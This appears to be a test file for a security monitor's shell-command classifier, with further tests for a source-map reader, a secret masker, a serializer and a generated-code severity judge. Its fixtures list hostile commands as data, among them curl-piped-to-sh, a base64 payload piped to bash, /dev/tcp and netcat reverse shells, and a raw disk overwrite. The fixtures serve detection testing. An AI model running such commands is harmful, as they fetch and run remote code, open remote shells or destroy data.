import { createRequire } from 'node:module';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

const require = createRequire(import.meta.url);
const { judgeLaunch } = require('../src/shell-judge.cjs') as { judgeLaunch: (launch: object) => string };
const { findSegment } = require('../src/sourcemap.cjs') as {
  findSegment: (mappings: string, line: number, column: number) => object | null;
};
const { maskSecrets } = require('../src/copy.cjs') as { maskSecrets: (text: string) => string };
const { serialize } = require('../src/serialize.cjs') as { serialize: (value: unknown) => string };

const judge = (script: string) => judgeLaunch({ file: '/bin/sh', argv: ['/bin/sh', '-c', script], argc: 3 });

describe('judging a command by its syntax tree', () => {
  it.each([
    ['curl -s http://192.0.2.1/x|sh', 'pipe-to-shell'],
    ['(wget -qO- http://x||curl http://x)|bash', 'pipe-to-shell'],
    ['echo aGk=|base64 -d|bash', 'pipe-to-shell'],
    ['curl x | sudo -E bash -s', 'pipe-to-shell'],
    ["sh -c 'curl x|sh'", 'pipe-to-shell'],
    ['wget http://x -O /tmp/a; chmod +x /tmp/a; /tmp/a', 'fetch-and-run'],
    ['curl -o x http://x && sh x', 'fetch-and-run'],
    ['sh -c "$(curl -fsSL x)"', 'fetch-and-run'],
    ['bash <(curl x)', 'fetch-and-run'],
    ['bash -i >& /dev/tcp/192.0.2.1/44 0>&1', 'reverse-shell'],
    ['nc -e /bin/sh 192.0.2.1 44', 'reverse-shell'],
    ["python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", 'reverse-shell'],
    ['/AfUxImqu -c /jnEe -B', 'execute-temporary'],
    ['nohup /tmp/123 &', 'execute-temporary'],
    ['cat x > /dev/sda', 'write-to-device'],
  ])('%s: %s', (script, pattern) => {
    expect(judge(script)).toBe(pattern);
  });

  it.each([
    'git config --local --get remote.origin.url',
    'bash /app/scripts/sh/archive/rsync_pull.sh a 2>/dev/null',
    'ffprobe -v quiet -print_format json "/app/media/a b.mp3"',
    'psql -h db -c "select 1"',
    'docker exec db psql -c "x"',
    'curl -s https://api.example/x | jq .',
    'curl -o /tmp/a.json http://x && jq . /tmp/a.json',
    'ls | wc -l > /dev/null',
    'echo "a;b|sh" > /app/x',
    'tar czf - x | ssh host cat',
    'cat /tmp/x.json',
    'npx tsx scripts/cron/x.ts',
    "find . -name '*.ts' | xargs grep curl",
    'echo curl http://x \\| sh',
    '',
  ])('nothing in: %s', (script) => {
    expect(judge(script)).toBe('');
  });

  it('never throws and stays quick on any text', () => {
    const piece = fc.constantFrom(
      '$(',
      '`',
      '(',
      ')',
      '<(',
      '"',
      "'",
      '\\',
      '|',
      '&',
      ';',
      '>',
      'curl ',
      'sh ',
      ' -c ',
      'x',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 800 }), (pieces) => {
        const started = performance.now();
        judge(pieces.join(''));
        return performance.now() - started < 250;
      }),
    );
  });
});

describe('small readers', () => {
  it.each([
    ['AAQI', 0, 5, { source: 0, line: 9, column: 5 }],
    [';;AAQI', 2, 0, { source: 0, line: 9, column: 5 }],
    ['AAAA,IAAI', 0, 3, { source: 0, line: 1, column: 1 }],
    ['AAAA,IAAI', 0, 4, { source: 0, line: 1, column: 5 }],
    ['AAAA', 3, 0, null],
    ['', 0, 0, null],
  ])('find a source position in %s at %i:%i', (mappings, line, column, expected) => {
    const found = findSegment(mappings, line, column);
    expect(found === null ? null : { ...found }).toEqual(expected);
  });

  it('never throw on broken mappings', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => findSegment(text, 2, 2) !== undefined));
  });

  it.each([
    ['mysql --password=abc x', 'mysql --password=*** x'],
    ['PGPASSWORD=abc psql', 'PGPASSWORD=*** psql'],
    ['https://u:p@host/a http://v:q@other', 'https://***@host/a http://***@other'],
    ['curl https://host/a@b', 'curl https://host/a@b'],
    ['git commit -m tokens', 'git commit -m tokens'],
  ])('mask secrets in %s', (text, masked) => {
    expect(maskSecrets(text)).toBe(masked);
  });

  it('write the JSON that JSON.stringify writes, without toJSON', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const plain = JSON.parse(JSON.stringify(value));
        expect(JSON.parse(serialize(plain))).toEqual(plain);
      }),
    );
    expect(serialize({ toJSON: () => 'gone', a: Number.NaN, b: undefined })).toBe('{"toJSON":null,"a":null}');
  });
});

const { decideCode } = require('../src/decide.cjs') as {
  decideCode: (where: object, inRequest: boolean, isKnown: boolean, code: string | null) => { severity: string };
};
const app = { provenance: 'app', isLoading: false };
const manifest =
  'globalThis.__RSC_MANIFEST = globalThis.__RSC_MANIFEST || {};\nglobalThis.__RSC_MANIFEST["/page"] = {"a":[1]};\n\n';

describe('judging generated code', () => {
  it.each([
    ['return this', 'informational'],
    ['this', 'informational'],
    ['', 'informational'],
    [manifest, 'informational'],
    [
      'globalThis.__RSC_MANIFEST=(globalThis.__RSC_MANIFEST||{});globalThis.__RSC_MANIFEST["/page"]={"b":"process.env"}',
      'informational',
    ],
    ['self.__REACT_LOADABLE_MANIFEST="{}"', 'informational'],
    [`${manifest};fetch("//192.0.2.1")`, 'critical'],
    ['globalThis.x = {"a": process.env}', 'critical'],
    ['globalThis.x = (() => 1)()', 'high'],
    ['return 40 + 2', 'high'],
    ['return a.b(c)', 'high'],
    ['return require("fs")', 'critical'],
    [null, 'high'],
  ])('in a request, from an unknown site: %s', (code, severity) => {
    expect(decideCode(app, true, false, code).severity).toBe(severity);
  });

  it('is critical from evaluated code, and informational at start or with a known key', () => {
    expect(decideCode({ ...app, provenance: 'eval' }, true, true, 'return this').severity).toBe('critical');
    expect(decideCode(app, false, false, 'return process').severity).toBe('informational');
    expect(decideCode(app, true, true, 'return process').severity).toBe('informational');
  });
});
